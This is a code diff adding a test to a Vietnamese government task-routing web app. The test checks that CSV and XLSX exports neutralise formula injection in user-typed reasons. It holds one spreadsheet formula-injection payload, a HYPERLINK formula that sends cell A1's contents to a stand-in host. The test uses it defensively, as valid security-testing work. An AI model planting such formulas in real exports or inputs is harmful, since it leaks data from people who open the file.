@@ -132,3 +132,24 @@ def test_a_form_posted_after_the_session_expired_comes_back_filled(signed_in, cl
     body = client.get(f"/viec/{task.pk}/").content.decode()
     assert "Không thuộc thẩm quyền của Sở" in body
     assert '<details id="act-decline" open>' in body
+
+
+def test_exports_never_turn_user_text_into_a_formula(signed_in, org):
+    # Issue #12, break 3: a reason typed as a formula came out live in the XLSX (type "f") and
+    # as-is in the CSV.
+    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm")'
+    task = assign(org)
+    A.do_accept(task, org.gd_a)
+    A.do_transfer(
+        task, org.gd_a, to_unit=org.so_b, to_person=org.gd_b, reason_code="competence", reason=evil
+    )
+    A.do_return(task, org.gd_b, reason="+1-2")
+    client = signed_in("thanh_tra")
+    text = b"".join(client.get("/thanh-tra/xuat/csv/").streaming_content).decode("utf-8-sig")
+    reasons = [r[10] for r in csv.reader(io.StringIO(text))][1:]
+    assert "'" + evil in reasons and "'+1-2" in reasons
+    assert not any(r.startswith(("=", "+", "-", "@")) for r in reasons)
+    book = load_workbook(io.BytesIO(client.get("/thanh-tra/xuat/xlsx/").content))
+    cells = [row[10] for row in book.worksheets[0].iter_rows(min_row=2)]
+    assert [c.data_type for c in cells if c.value] == ["s", "s"]
+    assert {c.value for c in cells if c.value} == {evil, "+1-2"}
